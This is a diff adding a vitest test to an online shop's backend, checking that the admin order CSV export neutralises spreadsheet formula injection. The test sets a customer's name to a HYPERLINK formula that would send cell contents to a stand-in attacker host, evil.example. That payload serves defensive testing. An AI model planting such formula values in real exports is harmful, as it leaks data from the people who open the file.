@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { PDFParse } from 'pdf-parse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { markOrderPaid, hasDeliveredOrderContaining } from '../../../src/modules/orders/service';
@@ -269,5 +270,26 @@ describe('documents', () => {
         .slice(1)
         .map((l) => l.split(',')[0]),
     ).toEqual([b.orderNumber]);
+  });
+
+  it('neutralises formula cells in the export (a customer named =HYPERLINK(...) stays text)', async () => {
+    const mallory = await shopper(t);
+    const formula = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';
+    const renamed = await t.app.inject({
+      method: 'PATCH',
+      url: '/api/v1/users/me',
+      headers: mallory.headers,
+      payload: { name: formula },
+    });
+    expect(renamed.statusCode).toBe(200);
+    await placeOrder(mallory);
+    const res = await get(`/admin/orders/export?userId=${mallory.id}`, admin);
+    expect(res.statusCode).toBe(200);
+    const [header, row] = parse(res.body) as string[][];
+    const cell = row![header!.indexOf('customerName')];
+    expect(cell).toBe(`'${formula}`);
+    // No cell of the file starts a formula; amounts stay plain numbers.
+    for (const value of row!) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+    expect(row![header!.indexOf('total')]).toMatch(/^\d+$/);
   });
 });
